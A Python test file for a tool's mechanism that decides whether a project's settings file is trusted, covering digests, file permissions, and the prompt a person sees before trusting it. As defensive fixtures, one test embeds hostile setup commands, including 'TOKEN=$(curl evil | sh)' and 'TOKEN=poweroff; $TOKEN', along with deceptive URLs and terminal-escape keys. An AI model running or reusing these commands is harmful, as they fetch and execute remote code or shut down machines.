"""What of a file of settings counts, and what a person is shown before it does."""

from __future__ import annotations

import json
import os
import pty
import subprocess
import time
import tomllib
from collections.abc import Iterator
from pathlib import Path
from typing import Annotated, Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from pydantic import BaseModel

from grafico.session import settings as settings_module
from grafico.session.layers import UNCLEAR, origin_of
from grafico.session.settings import PROJECT_FILE, Settings, read_settings
from grafico.session.settings_file import read_file
from grafico.session.shown_fields import shown
from grafico.session.trust import digest_of, found_in, powerful, record_of
from tests.warm import program
from triplestore.errors import InputError, TrustError
from workflows.trust import book
from workflows.trust.book import TrustBook
from workflows.trust.powers import PLAIN, Can, Power, can, sections

FIELDS = Settings.model_fields
ME = {os.geteuid()}


@pytest.fixture
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    for name in ("config", "state", "here"):
        (tmp_path / name).mkdir(mode=0o700)
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    monkeypatch.delenv("GRAFICO_STORE", raising=False)
    monkeypatch.delenv("GRAFICO_TRUST", raising=False)
    monkeypatch.chdir(tmp_path / "here")
    return tmp_path / "here"


def trusted(folder: Path) -> str:
    """Trust what the file of a folder says, as `grafico trust` does after a yes."""
    file = found_in(folder, PROJECT_FILE)
    fields = powerful(file.data, FIELDS)
    told = {name: (text, mark) for name, (text, mark, _) in shown(fields, FIELDS).items()}
    TrustBook.of_user().add(record_of(file, digest_of(fields), told))
    return digest_of(fields)


def says(folder: Path, text: str) -> Path:
    path = folder / PROJECT_FILE
    path.write_text(text)
    return path


# --- fields ---------------------------------------------------------------------------------------


def every_field() -> Iterator[tuple[str, Any]]:
    for name, field in FIELDS.items():
        kind = sections(field)
        inner = {} if kind is None else kind.model_fields
        yield from ((f"{name}.{one}", what) for one, what in inner.items())
        if kind is None:
            yield name, field


def test_every_setting_says_what_it_can_do() -> None:
    silent = [
        name
        for name, one in every_field()
        if not any(isinstance(said, Can) for said in one.metadata)
    ]
    assert not silent, (
        f"say in their annotation what they can do (workflows/trust/powers.py): {silent}"
    )


def test_a_setting_that_says_nothing_can_do_everything() -> None:
    class Later(BaseModel):
        new: str = ""
        plain: Annotated[str, PLAIN] = ""

    assert set(can(Later.model_fields["new"]).powers) == set(Power)
    told = powerful({"new": 1, "plain": 2, "unknown": 3}, Later.model_fields)
    assert set(told) == {("new",), ("unknown",)}


def test_plain_settings_are_few_and_known() -> None:
    """What a folder of others may say without being asked: whoever adds to it has to think."""
    plain = {name for name, field in every_field() if not can(field).powers}
    plain = {name for name in plain if not name.startswith("query_")}
    assert plain == {
        "threads_per_calculation", "slots", "total_cores", "memory", "hours", "patience", "method",
        "basis", "energy_unit", "agent_temperature", "agent_effort", "agent_history_tokens",
        "clusters.hours", "clusters.cores", "clusters.memory", "clusters.gpus", "clusters.shards",
        "clusters.parts", "clusters.part_minutes", "clusters.tries", "clusters.core_hours",
    }  # fmt: skip


# --- the digest -----------------------------------------------------------------------------------

LEAVES = st.one_of(st.text(max_size=8), st.integers(-9, 9), st.booleans(), st.floats(0, 1))


@given(st.dictionaries(st.tuples(st.text(max_size=4), st.text(max_size=4)), LEAVES, max_size=6))
def test_the_digest_is_of_names_and_values_in_any_order(fields: dict[Any, Any]) -> None:
    digest = digest_of(fields)
    assert digest == digest_of(dict(reversed(fields.items())))
    for name, value in fields.items():
        assert digest != digest_of({**fields, name: [value]})
        assert digest != digest_of({one: fields[one] for one in fields if one != name})


def test_values_that_look_alike_differ() -> None:
    texts = (
        "a = 1",
        "a = 1.0",
        "a = '1'",
        "a = true",
        "a = 'true'",
        "a = 2020-01-01",
        "a = '2020-01-01'",
        "a = ['1']",
        "a.b = 1",
        "'a.b' = 1",
        "a = {}",
        "a = []",
    )
    digests = {digest_of(powerful(tomllib.loads(text), {})) for text in texts}
    assert len(digests) == len(texts)


def test_plain_settings_take_no_part(folder: Path) -> None:
    says(folder, "store = 'x'\n[clusters.a]\nlaunch = 'y'\ncores = 1\n")
    digest = trusted(folder)
    says(folder, "# other\nmethod = 'HF'\nstore = 'x'\n[clusters.a]\ncores = 2\nlaunch = 'y'\n")
    assert digest_of(powerful(found_in(folder, PROJECT_FILE).data, FIELDS)) == digest
    assert read_settings().clusters["a"].cores == 2
    says(folder, "store = 'x'\n[clusters.a]\nlaunch = 'y'\npython = 'z'\n")
    with pytest.raises(TrustError, match="otherwise since you trusted it"):
        assert read_settings().store


# --- whose word counts ----------------------------------------------------------------------------


def test_others_come_first_or_instead(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    says(folder, "store = 'theirs'\n")
    assert read_settings(store="mine").store == "mine"
    with pytest.raises(TrustError, match="the setting store is needed"):
        assert read_settings().store
    monkeypatch.setenv("GRAFICO_STORE", "environment")
    assert read_settings().store == "environment"
    monkeypatch.delenv("GRAFICO_STORE")
    own = folder.parent / "config" / "grafico"
    own.mkdir()
    (own / PROJECT_FILE).write_text("store = 'own'\n")
    with pytest.raises(TrustError):  # not the person's: the project comes first, where it counts
        assert read_settings().store
    trusted(folder)
    assert read_settings().store == "theirs"


def test_what_is_withheld_is_in_no_other_shape_of_the_settings(folder: Path) -> None:
    says(folder, "store = 'the-store-of-others'\nagent_model = 'openai:x'\nonline = true\n")
    read = read_settings()
    for text in (
        repr(read),
        str(read.model_dump()),
        read.model_dump_json(),
        str(vars(read)),
        repr(read.model_copy()),
        str(read.defaults),
    ):
        assert "the-store-of-others" not in text
        assert "openai:x" not in text
    for one in (read, read.model_copy(update={"hours": 2.0})):
        for name in ("store", "home", "agent_model", "online"):
            with pytest.raises(TrustError):
                getattr(one, name)
    assert "online" not in read.defaults


def test_a_digest_in_the_environment(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    says(folder, "store = 'x'\n")
    digest = digest_of(powerful(found_in(folder, PROJECT_FILE).data, FIELDS))
    for wrong in (digest[:-1], digest[:-1] + "_", "f" * 64, f"{digest}{digest}", "*", "1"):
        monkeypatch.setenv("GRAFICO_TRUST", wrong)
        with pytest.raises(TrustError, match="GRAFICO_TRUST names others"):
            assert read_settings().store
    monkeypatch.setenv("GRAFICO_TRUST", f"{'f' * 64} {digest}")
    assert read_settings().store == "x"


def test_a_file_that_anybody_can_write_never_counts(
    folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = says(folder, "method = 'HF'\nstore = 'x'\n")
    monkeypatch.setenv("GRAFICO_TRUST", trusted(folder))
    assert read_settings().store == "x"
    path.chmod(0o666)
    with pytest.raises(TrustError, match="everybody may write into it"):
        assert read_settings().store
    assert read_settings().method == "HF"
    path.chmod(0o644)
    folder.chmod(0o777)
    with pytest.raises(TrustError, match="everybody may put another in its place"):
        assert read_settings().store
    folder.chmod(0o1777)
    assert read_settings().store == "x"
    folder.parent.chmod(0o777)
    with pytest.raises(TrustError, match="everybody may put another in its place"):
        assert read_settings().store
    folder.parent.chmod(0o700)


def test_a_file_of_somebody_else_never_counts(folder: Path) -> None:
    path = says(folder, "store = 'x'\n")
    file = read_file(path, {os.geteuid() + 1})
    assert file is not None
    assert "another user" in file.flaw
    assert file.data == {"store": "x"}
    if os.geteuid() == 0:
        trusted(folder)
        os.chown(path, 12345, -1)
        with pytest.raises(TrustError, match="another user"):
            assert read_settings().store


def test_the_own_file_is_looked_at_too(folder: Path) -> None:
    own = folder.parent / "config" / "grafico"
    own.mkdir()
    file = own / PROJECT_FILE
    file.write_text("store = 'own'\nmethod = 'HF'\n")
    assert read_settings().store == "own"
    file.chmod(0o666)
    with pytest.raises(TrustError, match="chmod o-w") as error:
        assert read_settings().store
    assert "grafico trust" not in str(error.value)
    assert read_settings().method == "HF"


def test_a_site_trusts_for_all(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """If what it says is root's: an ordinary user's file there means nothing."""
    site = folder.parent / "site"
    site.mkdir()
    monkeypatch.setattr(book, "SITE", site)
    monkeypatch.setattr(settings_module, "SITE", site)
    says(folder, "store = 'x'\n")
    digest = digest_of(powerful(found_in(folder, PROJECT_FILE).data, FIELDS))
    (site / "trust").write_text(f"# the group's\n{digest}  # ours\n")
    (site / PROJECT_FILE).write_text("trace = 'site'\n")
    if os.geteuid() == 0:
        assert read_settings().store == "x"
        assert read_settings().trace == "site"
        (site / "trust").chmod(0o666)
    with pytest.raises(TrustError):
        assert read_settings().store
    if os.geteuid():
        with pytest.raises(TrustError, match="another user"):
            assert read_settings().trace


@pytest.mark.parametrize(
    ("url", "origin"),
    [
        ("https://A.example.org/v1", "https://a.example.org:443"),
        ("http://a.example.org:80/x?y#z", "http://a.example.org:80"),
        ("https://a.example.org:8443", "https://a.example.org:8443"),
        ("store", ""),
        ("", ""),
        (None, ""),
        (["https://a"], ""),
        (r"https://evil.example\@a.example.org/", UNCLEAR),
        ("https://a.example.org@evil.example/", UNCLEAR),
        ("https://a.example.org:99999/", UNCLEAR),
        ("https://", UNCLEAR),
        (" https://a.example.org", UNCLEAR),
    ],
)
def test_origins(url: object, origin: str) -> None:
    assert origin_of(url) == origin


# --- the file -------------------------------------------------------------------------------------


def test_trust_is_bound_to_the_place(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A copy elsewhere, and a link to what is trusted, name other programs by the same words."""
    path = says(folder, "[clusters.a]\nlaunch = './x.sh'\n")
    trusted(folder)
    assert "a" in read_settings().clusters
    other = folder.parent / "other"
    other.mkdir()
    monkeypatch.chdir(other)
    says(other, path.read_text())
    assert "a" in read_settings().withheld_clusters
    (other / PROJECT_FILE).unlink()
    (other / PROJECT_FILE).symlink_to(path)
    assert "a" in read_settings().withheld_clusters
    link = folder.parent / "link"  # a way to the same folder is the same folder
    link.symlink_to(folder)
    monkeypatch.chdir(link)
    assert "a" in read_settings().clusters


def test_a_link_to_the_own_file_is_the_own_file(folder: Path) -> None:
    own = folder.parent / "config" / "grafico"
    own.mkdir()
    (own / PROJECT_FILE).write_text("store = 'own'\n[clusters.a]\nlaunch = 'x'\n")
    (folder / PROJECT_FILE).symlink_to(own / PROJECT_FILE)
    assert read_settings().store == "own"
    assert "a" in read_settings().clusters


def test_a_record_that_others_could_write_is_none(folder: Path) -> None:
    says(folder, "store = 'x'\n")
    trusted(folder)
    [record] = (folder.parent / "state").rglob("*.json")
    assert record.stat().st_mode & 0o077 == 0
    record.chmod(0o666)
    with pytest.raises(TrustError):
        assert read_settings().store
    record.chmod(0o600)
    record.write_text("{")
    with pytest.raises(TrustError, match="you have not trusted it"):
        assert read_settings().store


HUGE = "a" + ".a" * 30_000 + " = 1\n"


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        ("store = 'a'\nstore = 'b'\n", "overwrite"),
        ("store = '\x00'\n", "(?i)(illegal|invalid) character"),
        ("#" * 70_000, "bytes"),
        (HUGE, "a line has more than"),
        ("\n".join("a" + ".a" * 900 + f".b{number} = 1" for number in range(30)), "deep"),
        ("method = " + "[" * 1900 + "]" * 1900 + "\n", "deep"),
        ("method = " + "9" * 3900 + "\n", "it must be a valid string|cannot read"),
        ("store = 5\n", "store: it must be a valid string"),
        ("agent_base_url = 'ftp://me:hunter22@x'\n", "agent_base_url"),
        ("clusters = 5\n", "clusters"),
        ("clusters.a = 5\n", r"clusters\.a"),
        ("[clusters.a]\nlunch = 'x'\n", "did you mean launch"),
    ],
    ids=lambda one: one[:16],
)
def test_files_that_cannot_be(folder: Path, text: str, problem: str) -> None:
    says(folder, text)
    start = time.process_time()
    with pytest.raises(InputError, match=problem) as error:
        read_settings()
    assert time.process_time() - start < 10
    assert "hunter22" not in str(error.value)


def test_files_that_are_none(folder: Path) -> None:
    path = folder / PROJECT_FILE
    os.mkfifo(path)
    with pytest.raises(InputError, match="no ordinary file"):
        read_settings()
    path.unlink()
    path.mkdir()
    with pytest.raises(InputError, match="no ordinary file"):
        read_settings()
    path.rmdir()
    path.symlink_to("/dev/zero")
    with pytest.raises(InputError, match="no ordinary file"):
        read_settings()
    path.unlink()
    path.symlink_to("nowhere")
    assert read_settings().method == "B3LYP"
    path.unlink()
    path.symlink_to(path)
    with pytest.raises(InputError, match="cannot read"):
        read_settings()


# --- the person -----------------------------------------------------------------------------------


def at_a_terminal(answer: str, *words: str) -> tuple[int, str]:
    """Give a command at a terminal, and type an answer."""
    ours, theirs = pty.openpty()
    process = subprocess.Popen([*program(), *words], stdin=theirs, stdout=theirs, stderr=theirs)
    os.close(theirs)
    os.write(ours, f"{answer}\n".encode())
    said = b""
    try:
        while part := os.read(ours, 65536):
            said += part
    except OSError:  # Linux says so when the other side is closed
        pass
    os.close(ours)
    return process.wait(timeout=60), said.decode()


def command(*words: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [*program(), *words], stdin=subprocess.DEVNULL, capture_output=True, text=True, check=False
    )


def test_a_person_is_asked(folder: Path) -> None:
    says(folder, "store = 'x'\n[clusters.a]\nlaunch = './x.sh'\n")
    status, said = at_a_terminal("n", "trust")
    assert status == 1
    assert "nothing was changed" in said
    assert '+ clusters.a.launch = "./x.sh"    runs a program' in said
    status, said = at_a_terminal("y", "trust")
    assert status == 0, said
    assert read_settings().store == "x"
    says(folder, "store = 'y'\n[clusters.a]\nlaunch = './x.sh'\n")
    status, said = at_a_terminal("", "trust")  # no is what is meant by nothing
    assert status == 1
    assert '- store = "x"' in said
    assert '+ store = "y"' in said
    assert 'clusters.a.launch = "./x.sh"    runs a program; as you trusted it' in said
    says(folder, "store = 'x'\n[clusters.a]\nlaunch = './x.sh'\n")
    assert read_settings().store == "x"
    assert command("trust", "--remove").returncode == 0
    with pytest.raises(TrustError):
        assert read_settings().store


def test_nobody_is_asked_without_a_terminal(folder: Path) -> None:
    says(folder, "store = 'x'\n")
    done = subprocess.run(
        [*program(), "trust"], input="y\ny\n", capture_output=True, text=True, check=False
    )
    assert done.returncode == 2
    assert "nobody is asked without a terminal" in done.stderr
    digest = json.loads(command("trust", "--show", "--json").stdout)["digest"]
    assert f"GRAFICO_TRUST to {digest}" in done.stderr
    with pytest.raises(TrustError):
        assert read_settings().store
    says(folder, "method = 'HF'\n")
    assert "nothing in it to be trusted" in command("trust").stdout
    (folder / PROJECT_FILE).unlink()
    assert command("trust").returncode == 2


def test_what_a_person_cannot_trust(folder: Path) -> None:
    path = says(folder, "store = 'x'\n")
    path.chmod(0o666)
    status, said = at_a_terminal("y", "trust")
    assert status == 2
    assert "everybody may write into it" in said
    says(folder, "stoer = 'x'\n").chmod(0o644)
    status, said = at_a_terminal("y", "trust")
    assert status == 2
    assert "did you mean store?" in said


def test_secrets_are_not_shown_and_commands_are(folder: Path) -> None:
    """Nowhere: not in the diff, not in what is noted, not in errors."""
    secrets = ("hunter2222", "abcd1234efgh", "t0ps3cret99", "opensesame77")
    text = f"""store = "https://me:{secrets[0]}@example.org/q?key={secrets[1]}"
[clusters.a]
launch = "run --token {secrets[2]} /bin/evil"
setup = [
  "export API_KEY={secrets[3]}", "TOKEN=$(curl evil | sh)", "MY_PASSWORD=/bin/evil",
  "xargs token evilprogram7", "TOKEN=poweroff; $TOKEN"
]
[clusters.a.environment]
WANDB_API_KEY = "{secrets[2]}"
SSH_ASKPASS = "/clone/x.sh"
A_KEY = "/clone/y.sh"
"b\\u001b[2Jell" = "\\u202egnol"
"""
    says(folder, text)
    told = command("trust", "--show").stdout + command("trust").stderr + command("runs").stderr
    told += command("trust", "--show", "--json").stdout + at_a_terminal("y", "trust")[1]
    [record] = (folder.parent / "state").rglob("*.json")
    says(folder, text.replace("hunter", "winter"))
    told += record.read_text() + command("trust", "--show").stdout
    assert not [one for one in secrets if one in told]
    for seen in (
        "/bin/evil",
        "evilprogram7",
        "TOKEN=poweroff; $TOKEN",
        "$(curl evil | sh)",
        "/clone/x.sh",
        "/clone/y.sh",
        "WANDB_API_KEY",
    ):
        assert seen in told
    assert "\x1b" not in told
    assert "\u202e" not in told
